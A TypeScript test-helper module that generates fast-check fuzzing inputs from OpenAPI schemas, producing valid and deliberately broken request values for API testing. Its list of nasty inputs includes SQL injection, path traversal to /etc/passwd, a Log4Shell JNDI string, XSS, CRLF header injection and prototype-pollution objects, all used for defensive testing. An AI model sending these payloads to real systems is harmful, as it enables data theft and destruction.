/**
 * fast-check arbitraries derived from the JSON Schemas of openapi.json: values that fit a schema
 * (`valid`), the same values broken in one place (`broken`: a wrong type, a missing required key, an
 * extra key, a nasty string or number), and a list of nasty values. `hints` name fixture values by
 * field name (ids, codes, e-mails...) so that valid-shaped inputs reach a route's logic instead of
 * stopping at "not found".
 */
import fc from "fast-check";
import { resolve, type JsonSchema } from "./openapi.js";

/** Extra arbitraries for fields of a given name (mixed in with the schema's own values). */
export type Hints = Readonly<Record<string, fc.Arbitrary<unknown>>>;

/** Nested arrays `depth` deep: parsers and recursive schemas must not overflow the stack. */
export function nested(depth: number): unknown {
  return JSON.parse("[".repeat(depth) + "]".repeat(depth));
}

/** Nested objects `{"a": {"a": …}}` `depth` deep, as JSON text. */
export function nestedObjectText(depth: number): string {
  return '{"a":'.repeat(depth) + "1" + "}".repeat(depth);
}

export const nastyStrings: readonly string[] = [
  "",
  " ",
  "../",
  "../../../../etc/passwd",
  "..%2F..%2F",
  "%00",
  "\u0000",
  "a\u0000b",
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  "1); SELECT pg_sleep(10); --",
  "%",
  "_",
  "\\",
  "<script>alert(1)</script>",
  "${jndi:ldap://example.com/a}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "me",
  "internal",
  "null",
  "true",
  "-1",
  "NaN",
  "1e309",
  "\ud800",
  "\udfff",
  "😀".repeat(50),
  "\u202eevil",
  "Ａｄｍｉｎ",
  "\r\nx-injected: 1",
  `${"a".repeat(300)}@example.com`,
  `user@${"b".repeat(300)}.com`,
  `${"c".repeat(64)}@${"d".repeat(63)}.${"e".repeat(63)}.com`,
  "x".repeat(100_001),
  "00000000-0000-0000-0000-000000000000",
  "ffffffff-ffff-ffff-ffff-ffffffffffff",
  "javascript:alert(1)",
  "http://[::1]:99999/",
  "data:image/png;base64,====",
];

export const nastyNumbers: readonly number[] = [
  -1,
  -0,
  0.5,
  -1e308,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  -(2 ** 63),
  2 ** 63,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  8.64e15 + 1,
];

const protoKey = JSON.parse('{"__proto__": {"polluted": "yes"}}') as unknown;

export const nastyStructures: readonly unknown[] = [
  null,
  true,
  false,
  [],
  {},
  [null],
  protoKey,
  { constructor: { prototype: { polluted: "yes" } } },
  nested(3_000),
  Array.from({ length: 10_000 }, (_, i) => i),
];

/** Any of the nasty values. */
export const nasty: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...nastyStrings) },
  { weight: 2, arbitrary: fc.constantFrom(...nastyNumbers) },
  { weight: 2, arbitrary: fc.constantFrom(...nastyStructures) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
);

const types = (schema: JsonSchema): string[] => (schema.type === undefined ? [] : Array.isArray(schema.type) ? schema.type : [schema.type]);

function stringArb(schema: JsonSchema): fc.Arbitrary<string> {
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.max(minLength, Math.min(schema.maxLength ?? 48, 48));
  if (schema.format === "uuid") return fc.oneof({ weight: 9, arbitrary: fc.uuid({ version: 4 }) }, { weight: 1, arbitrary: fc.constant("00000000-0000-0000-0000-000000000000") });
  if (schema.format === "date-time") return fc.date({ min: new Date("2000-01-01"), max: new Date("2100-01-01"), noInvalidDate: true }).map((d) => d.toISOString());
  if (schema.format === "base64") return fc.uint8Array({ maxLength: 32 }).map((bytes) => Buffer.from(bytes).toString("base64"));
  if (schema.pattern !== undefined) {
    return fc.stringMatching(new RegExp(schema.pattern), { maxLength }).filter((v) => v.length >= minLength && v.length <= (schema.maxLength ?? Infinity));
  }
  const plain = fc.oneof(
    fc.string({ unit: "grapheme-ascii", minLength, maxLength }),
    fc.string({ unit: "grapheme", minLength, maxLength }),
    fc.string({ unit: "binary", minLength, maxLength }),
  );
  // The longest value the schema allows, up to 100 000 characters.
  if (schema.maxLength !== undefined && schema.maxLength <= 100_000 && schema.maxLength > maxLength) {
    return fc.oneof({ weight: 9, arbitrary: plain }, { weight: 1, arbitrary: fc.constant("y".repeat(schema.maxLength)) });
  }
  return plain;
}

function integerArb(schema: JsonSchema): fc.Arbitrary<number> {
  const min = schema.minimum ?? (schema.exclusiveMinimum !== undefined ? schema.exclusiveMinimum + 1 : Number.MIN_SAFE_INTEGER);
  const max = schema.maximum ?? Number.MAX_SAFE_INTEGER;
  const small = fc.integer({ min: Math.max(min, -(2 ** 31)), max: Math.min(max, 2 ** 31 - 1) });
  const bounds = fc.constantFrom(min, max);
  const wide = fc.maxSafeInteger().filter((n) => n >= min && n <= max);
  return fc.oneof({ weight: 6, arbitrary: small }, { weight: 2, arbitrary: bounds }, { weight: 2, arbitrary: wide });
}

export interface SchemaContext {
  hints: Hints;
  /** `$ref`s being expanded (a recursive schema, such as free-form JSON metadata, stops here). */
  refs: readonly string[];
}

/** Values that fit `schema`; `name` is the field (or parameter) name, used to pick hints. */
export function valid(schema: JsonSchema, name: string | undefined, context: SchemaContext): fc.Arbitrary<unknown> {
  const own = fromSchema(schema, context);
  const hint = name === undefined ? undefined : context.hints[name];
  return hint === undefined ? own : fc.oneof({ weight: 3, arbitrary: hint }, { weight: 1, arbitrary: own });
}

function fromSchema(schema: JsonSchema, context: SchemaContext): fc.Arbitrary<unknown> {
  if (schema.$ref !== undefined) {
    if (context.refs.includes(schema.$ref)) return fc.jsonValue({ maxDepth: 1 });
    return fromSchema(resolve(schema), { ...context, refs: [...context.refs, schema.$ref] });
  }
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum !== undefined) return fc.constantFrom(...schema.enum);
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives !== undefined) return fc.oneof(...alternatives.map((alternative) => fromSchema(alternative, context)));
  const kinds = types(schema);
  if (kinds.length > 1) return fc.oneof(...kinds.map((type) => fromSchema({ ...schema, type }, context)));
  switch (kinds[0]) {
    case "string":
      return stringArb(schema);
    case "integer":
      return integerArb(schema);
    case "number":
      return fc.double({ noNaN: true, noDefaultInfinity: true, min: schema.minimum, max: schema.maximum });
    case "boolean":
      return fc.boolean();
    case "null":
      return fc.constant(null);
    case "array":
      return fc.array(schema.items ? valid(schema.items, undefined, context) : fc.jsonValue({ maxDepth: 1 }), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.max(schema.minItems ?? 0, Math.min(schema.maxItems ?? 3, 3)),
      });
    case "object":
      return objectArb(schema, context);
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

function objectArb(schema: JsonSchema, context: SchemaContext): fc.Arbitrary<unknown> {
  const properties = schema.properties ?? {};
  const model: Record<string, fc.Arbitrary<unknown>> = {};
  for (const [key, property] of Object.entries(properties)) {
    model[key] = valid(property, key, context);
    // Array items of a named field get the field's hints under `name[]`.
    const resolved = resolve(property);
    if (types(resolved).includes("array") && resolved.items && context.hints[`${key}[]`]) {
      model[key] = fc.array(fc.oneof(context.hints[`${key}[]`]!, fromSchema(resolved.items, context)), { maxLength: 3 });
    }
  }
  const record = fc.record(model, { requiredKeys: (schema.required ?? []).filter((key) => key in properties) });
  const extra = schema.additionalProperties;
  if (extra === false || extra === undefined) return record;
  const values = extra === true || Object.keys(extra).length === 0 ? fc.jsonValue({ maxDepth: 1 }) : valid(extra, undefined, context);
  const extras = fc.dictionary(fc.string({ maxLength: 12 }).filter((key) => !(key in properties) && key !== "__proto__"), values, { maxKeys: 2 });
  return fc.tuple(record, extras).map(([known, more]) => ({ ...more, ...known }));
}

type Path = (string | number)[];

/** Positions in a JSON value (the root, object keys, array indices), breadth first, down to depth 8. */
function positions(value: unknown): Path[] {
  const out: Path[] = [];
  const queue: [unknown, Path][] = [[value, []]];
  while (queue.length > 0) {
    const [node, at] = queue.shift()!;
    out.push(at);
    if (at.length >= 8) continue;
    if (Array.isArray(node)) node.slice(0, 20).forEach((item, i) => queue.push([item, [...at, i]]));
    else if (node !== null && typeof node === "object") for (const [key, item] of Object.entries(node)) queue.push([item, [...at, key]]);
  }
  return out;
}

function replaceAt(value: unknown, path: Path, replacement: unknown): unknown {
  if (path.length === 0) return replacement;
  const [head, ...rest] = path;
  if (Array.isArray(value)) return value.map((item, i) => (i === head ? replaceAt(item, rest, replacement) : item));
  const copy = { ...(value as Record<string, unknown>) };
  copy[head as string] = replaceAt(copy[head as string], rest, replacement);
  return copy;
}

function deleteAt(value: unknown, path: Path): unknown {
  if (path.length === 1 && value !== null && typeof value === "object" && !Array.isArray(value)) {
    const { [path[0] as string]: _gone, ...rest } = value as Record<string, unknown>;
    return rest;
  }
  if (path.length <= 1) return value;
  const [head, ...rest] = path;
  if (Array.isArray(value)) return value.map((item, i) => (i === head ? deleteAt(item, rest) : item));
  const copy = { ...(value as Record<string, unknown>) };
  copy[head as string] = deleteAt(copy[head as string], rest);
  return copy;
}

function addKeyAt(value: unknown, path: Path, key: string, extra: unknown): unknown {
  const target = path.reduce<unknown>((node, step) => (node as Record<string | number, unknown>)[step], value);
  if (target === null || typeof target !== "object" || Array.isArray(target)) return value;
  return replaceAt(value, path, { ...(target as Record<string, unknown>), [key]: extra });
}

export type Breakage =
  | { kind: "replace"; at: number; with: unknown }
  | { kind: "delete"; at: number }
  | { kind: "extra"; at: number; key: string; with: unknown };

export const breakage: fc.Arbitrary<Breakage> = fc.oneof(
  { weight: 5, arbitrary: fc.record({ kind: fc.constant("replace" as const), at: fc.nat(), with: nasty }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant("delete" as const), at: fc.nat() }) },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant("extra" as const),
      at: fc.nat(),
      key: fc.constantFrom("__proto__", "constructor", "extra", "is_admin", "project_id", "../", "x".repeat(1_000)),
      with: nasty,
    }),
  },
);

/** `value` broken in one place. */
export function applyBreakage(value: unknown, change: Breakage): unknown {
  const all = positions(value);
  switch (change.kind) {
    case "replace":
      return replaceAt(value, all[change.at % all.length]!, change.with);
    case "delete": {
      const keys = all.filter((path) => path.length > 0 && typeof path.at(-1) === "string");
      return keys.length === 0 ? undefined : deleteAt(value, keys[change.at % keys.length]!);
    }
    case "extra": {
      const objects = all.filter((path) => {
        const node = path.reduce<unknown>((n, step) => (n as Record<string | number, unknown>)[step], value);
        return node !== null && typeof node === "object" && !Array.isArray(node);
      });
      if (objects.length === 0) return replaceAt(value, [], { [change.key]: change.with });
      const key = change.key;
      if (key === "__proto__") {
        // An own "__proto__" key, as JSON.parse makes it (a literal would set the prototype instead).
        const path = objects[change.at % objects.length]!;
        const target = path.reduce<unknown>((n, step) => (n as Record<string | number, unknown>)[step], value) as Record<string, unknown>;
        const withProto = JSON.parse(JSON.stringify({ ...target, ["__proto_placeholder__"]: change.with }).replace('"__proto_placeholder__"', '"__proto__"'));
        return replaceAt(value, path, withProto);
      }
      return addKeyAt(value, objects[change.at % objects.length]!, key, change.with);
    }
  }
}

/** Values of `schema` broken in one place (they may still happen to fit it). */
export function broken(schema: JsonSchema, name: string | undefined, context: SchemaContext): fc.Arbitrary<unknown> {
  return fc.tuple(valid(schema, name, context), breakage).map(([value, change]) => applyBreakage(value, change));
}
